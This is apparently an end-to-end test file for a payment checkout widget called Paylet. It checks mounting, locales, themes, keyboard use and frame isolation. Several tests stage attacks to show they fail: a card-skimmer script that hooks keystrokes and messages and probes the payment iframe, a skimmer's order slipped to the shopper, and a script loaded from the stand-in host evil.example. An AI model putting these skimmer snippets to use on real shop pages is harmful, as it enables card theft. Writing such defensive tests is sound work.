// The widget as merchants embed it: a single-page app mounting, updating and
// destroying it; a hostile page script that tries to read the card (with
// Paylet's card fields and with the gateway's); a site
// that is not allowed to frame it; plain HTTP; languages and themes.

import { test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { chromium } from "playwright-core";
import { withStack } from "../lib/stack.js";
import {
  CARDS, GATEWAY_FIELD_STYLES, STYLES, WIDGET, assertAccessible, assertNoCardData, fillForm, gatewayPayments,
  merchantPage as merchantPageOf, openCheckout, orderInDatabase, screenshot,
} from "../lib/checkout.js";

let stack;
let browser;
withStack((s, b) => { stack = s; browser = b; });

/** A merchant page on the shop's origin (or another), holding `body` and the snippet. */
const merchantPage = (body, options) => merchantPageOf(browser, stack, body, options);

test("a single-page app mounts, updates and destroys the checkout; typed data survives the update", async () => {
  const page = await merchantPage(`<div id="checkout"></div>`);
  await page.evaluate(() => {
    window.events = [];
    const el = document.getElementById("checkout");
    for (const name of ["ready", "paid", "failed"]) {
      el.addEventListener(`paylet:${name}`, (e) => window.events.push({ name, detail: e.detail }));
    }
    // eslint-disable-next-line no-undef
    window.checkout = Paylet.mount(el, { store: "st_demo", items: "TEE-CLASSIC:1" });
  });
  await page.waitForFunction(() => window.events.some((e) => e.name === "ready"));
  const widget = page.frameLocator(WIDGET);
  await widget.getByRole("button", { name: "Pay $25.00" }).waitFor();
  await fillForm(widget, CARDS.visa);

  // The cart changes on the merchant's page: two tees and a mug.
  await page.evaluate(() => window.checkout.update({ items: [{ sku: "TEE-CLASSIC", quantity: 2 }, { sku: "MUG-ENAMEL" }] }));
  await widget.getByRole("button", { name: "Pay $68.00" }).waitFor();
  assert.equal(await widget.getByLabel("Email").inputValue(), "ada@example.com");
  assert.equal(await widget.getByLabel("Card number").inputValue(), CARDS.visa);
  assert.equal(await widget.getByLabel("Security code").inputValue(), "123");

  await widget.getByRole("button", { name: "Pay $68.00" }).click();
  await page.waitForFunction(() => window.events.some((e) => e.name === "paid"));
  const paid = await page.evaluate(() => window.events.find((e) => e.name === "paid").detail);
  assert.deepEqual(orderInDatabase(stack, paid.orderId), { status: "paid", total: 6800 });

  await page.evaluate(() => window.checkout.destroy());
  assert.equal(await page.locator(WIDGET).count(), 0);
  // Mounted again, it is a fresh checkout.
  await page.evaluate(() => {
    window.checkout = Paylet.mount(document.getElementById("checkout"), { store: "st_demo", items: "CAP-CANVAS:1" });
  });
  await widget.getByRole("button", { name: "Pay $22.00" }).waitFor();
  assert.equal(await page.locator(WIDGET).count(), 1);
  await page.close();
});

// Paylet's card fields, and the gateway's (Stripe.js's and Square's SDK, in a
// frame of the gateway's origin inside the Paylet frame).
for (const style of [STYLES[0], ...GATEWAY_FIELD_STYLES]) {
  const fields = style.fields ? `${style.name}'s own card fields` : "Paylet's card fields";
  test(`a hostile script on the merchant's page gets nothing of the card, with ${fields}`, async () => {
    const page = await merchantPage(`<div data-paylet-store="${style.store}" data-items="MUG-ENAMEL:1"></div>
      <script>
        // What a skimmer injected into the shop would try.
        window.stolen = { keys: 0, messages: [], frames: [] };
        document.addEventListener("keydown", () => window.stolen.keys++, true);
        document.addEventListener("input", (e) => window.stolen.frames.push(String(e.target.value)), true);
        window.addEventListener("message", (e) => window.stolen.messages.push(JSON.stringify(e.data)));
        window.peek = () => {
          const frame = document.querySelector("iframe");
          const tries = [];
          try { tries.push(String(frame.contentDocument && frame.contentDocument.body.innerHTML)); } catch (e) { tries.push("blocked"); }
          try { tries.push(frame.contentWindow.document.querySelector("#card-number").value); } catch (e) { tries.push("blocked"); }
          try { tries.push(String(frame.contentWindow.sessionStorage.length)); } catch (e) { tries.push("blocked"); }
          try { tries.push(String(frame.contentWindow.frames[0].document.body.innerHTML)); } catch (e) { tries.push("blocked"); }
          return tries;
        };
      </script>`);
    const widget = page.frameLocator(WIDGET);
    await fillForm(widget, CARDS.visa, { style });
    assert.deepEqual(await page.evaluate(() => window.peek()), ["null", "blocked", "blocked", "blocked"]);
    await widget.getByRole("button", { name: "Pay $18.00" }).click();
    await widget.getByRole("heading", { name: "Paid" }).waitFor();
    const stolen = await page.evaluate(() => window.stolen);
    assert.equal(stolen.keys, 0, "no keystroke reached the merchant's page");
    assert.deepEqual(stolen.frames, []);
    const digits = CARDS.visa.replaceAll(" ", "");
    for (const m of stolen.messages) assert.ok(!m.replaceAll(" ", "").includes(digits) && !m.includes("4242"), m);
    assert.ok(stolen.messages.some((m) => m.includes("paid")), "the page heard the outcome, and only that");
    await page.close();
  });
}

test("a skimmer on the shop's page cannot make the shopper pay the skimmer's own order", async () => {
  // The skimmer's backend places an expensive order shipped to itself, and
  // gets its id and secret as any client of the public API would.
  const response = await fetch(`${stack.server}/v1/stores/st_demo/orders`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({
      items: [{ sku: "TEE-CLASSIC", quantity: 10 }],
      customer: { email: "mallory@example.com", shipping_address: {
        line1: "1 Drop St", city: "Springfield", postal_code: "94103", country: "US" } },
    }),
  });
  assert.equal(response.status, 201);
  const theirs = await response.json();
  assert.equal(theirs.total.amount, 25000);
  const returnedWith = `order=${theirs.id}&resume=${encodeURIComponent(theirs.client_secret)}&returned=cancel`;

  // Each way the page can hand the widget an order: the widget's URL (the
  // skimmer frames it itself), and the return from the hosted page (the
  // order in the shop's URL, its secret where embed.js used to keep it).
  const framedBySkimmer = `<div id="slot"></div><script>
      const frame = document.createElement("iframe");
      frame.title = "Secure checkout";
      frame.style.cssText = "border:0;width:100%;height:900px";
      frame.src = ${JSON.stringify(`${stack.server}/widget/?store=st_demo&items=MUG-ENAMEL:1&parent=`)} +
        encodeURIComponent(location.origin) + "&return_url=" + encodeURIComponent(location.href) +
        ${JSON.stringify(`&${returnedWith}`)};
      document.getElementById("slot").appendChild(frame);
    </script>`;
  const backFromHostedPage = `<div data-paylet-store="st_demo" data-items="MUG-ENAMEL:1"></div>`;
  for (const [how, body] of [["framed by the skimmer", framedBySkimmer], ["back from the hosted page", backFromHostedPage]]) {
    const page = await browser.newPage();
    await page.goto(`${stack.shop}/?paylet_order=${theirs.id}&paylet_return=cancel`);
    // Where embed.js used to keep the secret; and a hosted page of its own
    // order asked for from the shop's page, which would leave a way back to
    // that order in this browser if the server gave one to any caller.
    const asked = await page.evaluate(async ({ server, id, secret }) => {
      sessionStorage.setItem(`paylet.order.${id}`, secret);
      const body = JSON.stringify({ client_secret: secret, return_url: location.href });
      const tries = [{ "content-type": "text/plain" }, { "content-type": "application/json" }];
      return Promise.all(tries.map((headers) => fetch(`${server}/v1/orders/${id}/hosted-session`,
        { method: "POST", credentials: "include", mode: "no-cors", headers, body }).then(() => "sent", (e) => String(e))));
    }, { server: stack.server, id: theirs.id, secret: theirs.client_secret });
    assert.deepEqual(asked, ["sent", "sent"]);
    await page.setContent(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title></head>
      <body><main>${body}</main><script src="${stack.server}/embed.js"></script></body></html>`);
    const widget = page.frameLocator(WIDGET);
    // The shopper sees the mug, and the Pay button names the mug's price.
    await widget.getByText("Enamel mug").waitFor();
    await fillForm(widget, CARDS.visa);
    await widget.getByRole("button", { name: "Pay $18.00" }).click();
    await widget.getByRole("heading", { name: "Paid" }).waitFor();
    assert.equal(orderInDatabase(stack, theirs.id).status, "pending", `${how}: the skimmer's order was paid`);
    assert.equal(await gatewayPayments(stack, theirs.id), 0, how);
    await page.close();
  }
});

test("back from the hosted page in a browser that kept no cookie for the frame, the shopper is told not to pay again", async () => {
  const { page, widget } = await openCheckout(browser, stack, "MUG-ENAMEL");
  await fillForm(widget, CARDS.visa);
  await widget.getByRole("button", { name: /^Pay on .* page instead$/ }).click();
  await page.waitForURL((url) => url.pathname.startsWith("/hosted/"));
  // What a browser that keeps no cookie for a cross-site frame would have.
  await page.context().clearCookies();
  await page.getByLabel("Card number").fill(CARDS.visa);
  await page.getByLabel("Expiry (MM / YY)").fill("12 / 34");
  await page.getByLabel("Security code").fill("123");
  await page.getByRole("button", { name: /^Pay / }).click();
  await page.waitForURL((url) => url.origin === stack.shop);
  const returned = page.frameLocator(WIDGET);
  await returned.getByText(/If you paid on .* page, your payment is being confirmed/).waitFor();
  // The order was paid on the gateway's page all the same (its webhook may take a moment).
  const lastHosted = () => execFileSync("python3", ["-c",
    "import sqlite3,sys; print(sqlite3.connect(sys.argv[1]).execute(\"select o.status from orders o join " +
    "payment_attempts a on a.order_id = o.id where a.kind = 'hosted' order by a.created_at desc limit 1\").fetchone()[0])",
    stack.files.db]).toString().trim();
  for (let i = 0; i < 50 && lastHosted() !== "paid"; i++) await new Promise((r) => setTimeout(r, 200));
  assert.equal(lastHosted(), "paid");
  await page.close();
});

test("a site the store does not allow cannot frame the widget", async () => {
  // The sandbox's origin stands for any other site: it is not the store's.
  const other = new URL(stack.sandbox).origin;
  const page = await browser.newPage();
  const refused = new Promise((resolve) => page.on("console", (m) => {
    if (m.text().includes("frame-ancestors")) resolve(m.text());
  }));
  await page.goto(`${other}/_sandbox/requests`);
  await page.setContent(`<iframe title="Secure checkout"
    src="${stack.server}/widget/?store=st_demo&items=TEE-CLASSIC:1&parent=${encodeURIComponent(other)}"></iframe>`);
  const why = await Promise.race([refused, page.waitForTimeout(10_000).then(() => "not refused")]);
  assert.match(why, /frame-ancestors/);
  assert.equal(await page.frameLocator(WIDGET).getByLabel("Card number").count(), 0);
  await page.close();
});

test("on plain HTTP other than localhost the widget shows no card fields and says why", async () => {
  // paylet.test is the server, reached by a name that is not a secure context.
  const port = new URL(stack.server).port;
  const insecure = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP paylet.test 127.0.0.1"],
  });
  try {
    const page = await insecure.newPage();
    await page.goto(`http://paylet.test:${port}/widget/?store=st_demo&items=TEE-CLASSIC:1`);
    await page.getByRole("alert").filter({ hasText: "not on a secure (HTTPS) connection" }).waitFor();
    assert.equal(await page.getByLabel("Card number").count(), 0);
    assert.equal(await page.getByText("Secure checkout").count(), 0);
  } finally {
    await insecure.close();
  }
  // In a secure context the cue is there.
  const { page, widget } = await openCheckout(browser, stack, "TEE-CLASSIC");
  await widget.getByText("Secure checkout — your card goes straight to Paylet Sandbox").waitFor();
  await page.close();
});

test("German, French and Spanish from the snippet, and the browser's language otherwise", async () => {
  const expected = {
    de: { number: "Kartennummer", pay: "25,00 $ bezahlen" },
    fr: { number: "Numéro de carte", pay: "Payer 25,00 $US" },
    es: { number: "Número de tarjeta", pay: "Pagar 25,00 US$" },
  };
  for (const [locale, want] of Object.entries(expected)) {
    const page = await merchantPage(`<div data-paylet-store="st_demo" data-items="TEE-CLASSIC:1" data-locale="${locale}"></div>`);
    const widget = page.frameLocator(WIDGET);
    await widget.getByLabel(want.number).waitFor();
    const pay = (await widget.locator("button.pay").textContent()).replace(/\s/g, " ");
    assert.equal(pay, want.pay, locale);
    await widget.locator("#card-number").fill("4242 4242 4242 4241");
    await widget.locator("button.pay").click();
    assert.notEqual(await widget.locator("#card-number-error").textContent(), "Your card number is incomplete or invalid.");
    await assertAccessible(page, `${locale} errors`);
    await page.close();
  }
  const french = await browser.newContext({ locale: "fr-FR" });
  const page = await merchantPage(`<div data-paylet-store="st_demo" data-items="TEE-CLASSIC:1"></div>`, { context: french });
  await page.frameLocator(WIDGET).getByLabel("Numéro de carte").waitFor();
  await french.close();
});

test("themes: the default on a white and a dark shop, and the merchant's own accent", async () => {
  const white = await openCheckout(browser, stack, "TEE-CLASSIC");
  await screenshot(white.page, "theme-white-shop");
  await white.page.close();

  const dark = await openCheckout(browser, stack, "TEE-CLASSIC", undefined, "&theme=dark");
  const background = await dark.widget.locator("body").evaluate((b) => getComputedStyle(b).backgroundColor);
  assert.equal(background, "rgb(27, 31, 38)");
  await assertAccessible(dark.page, "dark theme");
  await screenshot(dark.page, "theme-dark-shop");
  await dark.page.close();

  const page = await merchantPage(`<div data-paylet-store="st_demo" data-items="TEE-CLASSIC:1"
      data-theme-accent="#5b21b6" data-theme-radius="0px" data-theme-font="Georgia, serif"></div>`);
  const pay = page.frameLocator(WIDGET).locator("button.pay");
  await pay.waitFor();
  const style = await pay.evaluate((b) => {
    const s = getComputedStyle(b);
    return { background: s.backgroundColor, radius: s.borderRadius, font: s.fontFamily };
  });
  assert.deepEqual(style, { background: "rgb(91, 33, 182)", radius: "0px", font: "Georgia, serif" });
  await screenshot(page, "theme-custom-accent");
  await page.close();
});

test("the whole checkout by keyboard, the card fields moving on as each is complete", async () => {
  const { page, widget } = await openCheckout(browser, stack, "MUG-ENAMEL");
  await widget.getByLabel("Email").focus();
  const type = async (text) => { await page.keyboard.type(text); await page.keyboard.press("Tab"); };
  await type("ada@example.com");
  await type("Ada Lovelace");
  await page.keyboard.press("Tab"); // the country stays the browser's
  await type("1 Main St");
  await type("Springfield");
  await type("94103");
  await page.keyboard.press("Tab"); // shipping: same as billing
  await page.keyboard.type("4242424242424242"); // complete: on to the expiry
  await page.keyboard.type("1234"); // complete: on to the security code
  await page.keyboard.type("123");
  await page.keyboard.press("Tab");
  const focused = await widget.locator(":focus").textContent();
  assert.equal(focused.trim(), "Pay $18.00");
  const outline = await widget.locator(":focus").evaluate((b) => getComputedStyle(b).outlineStyle);
  assert.equal(outline, "solid", "focus is visible");
  await page.keyboard.press("Enter");
  await widget.getByRole("heading", { name: "Paid" }).waitFor();
  await page.close();
});

test("fields are checked as the shopper leaves them, and the frame fits what it shows", async () => {
  const { page, widget } = await openCheckout(browser, stack, "TEE-CLASSIC");
  // Luhn and expiry checks when a field is left, before any Pay.
  await widget.getByLabel("Card number").fill("4242 4242 4242 4241");
  await widget.getByLabel("Expiry (MM / YY)").fill("01 / 20");
  await widget.getByLabel("Security code").focus();
  await widget.locator("#card-number-error").filter({ hasText: "incomplete or invalid" }).waitFor();
  await widget.locator("#card-expiry-error").filter({ hasText: "expired" }).waitFor();
  // The security code's length follows the brand: four digits for Amex, three otherwise.
  await widget.getByLabel("Security code").fill("1234");
  assert.equal(await widget.getByLabel("Security code").inputValue(), "123");
  await widget.getByLabel("Card number").fill(CARDS.amex);
  await widget.getByLabel("Security code").fill("1234");
  assert.equal(await widget.getByLabel("Security code").inputValue(), "1234");

  // The iframe takes the widget's height, and follows it when a shipping address opens.
  const frameHeight = () => page.locator(WIDGET).evaluate((f) => f.getBoundingClientRect().height);
  const contentHeight = () => widget.locator("body").evaluate((b) => Math.ceil(b.getBoundingClientRect().height));
  // The widget reports its height by message, so the frame follows a moment later.
  const settled = async () => {
    for (let i = 0; i < 50; i++) {
      const [frame, content] = [await frameHeight(), await contentHeight()];
      if (frame === content) return frame;
      await page.waitForTimeout(100);
    }
    assert.fail(`the frame is ${await frameHeight()} px, its content ${await contentHeight()} px`);
  };
  const before = await settled();
  await widget.getByLabel("Ship to my billing address").uncheck();
  await widget.getByLabel("Address", { exact: true }).nth(1).waitFor();
  assert.ok(await settled() > before + 100, "the frame grew with the shipping address");
  await page.close();
});

test("a script slipped into the payment page is refused and reported to the merchant", async () => {
  const { page } = await openCheckout(browser, stack, "TEE-CLASSIC");
  const frame = page.frames().find((f) => f.url().includes("/widget/?"));
  // What a skimmer that got into the page would do.
  const ran = await frame.evaluate(() => new Promise((resolve) => {
    const script = document.createElement("script");
    script.src = "https://evil.example/skim.js";
    script.onload = () => resolve("loaded");
    script.onerror = () => resolve("refused");
    document.head.appendChild(script);
  }));
  assert.equal(ran, "refused");
  const script = "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); " +
    "print(c.execute(\"select count(*) from csp_reports where store_id='st_demo' and blocked_uri like '%evil.example%'\").fetchone()[0])";
  let reported = 0;
  for (let i = 0; i < 50 && reported === 0; i++) {
    await page.waitForTimeout(200);
    reported = Number(execFileSync("python3", ["-c", script, stack.files.db]).toString().trim());
  }
  assert.equal(reported, 1, "the browser's report reached the store's CSP reports");
  await page.close();
});

test("the server never received card data here either", async () => {
  const origins = [new URL(stack.server).origin, new URL(stack.sandbox).origin];
  await assertNoCardData(stack, Object.values(CARDS), { tokenizedBy: origins });
});
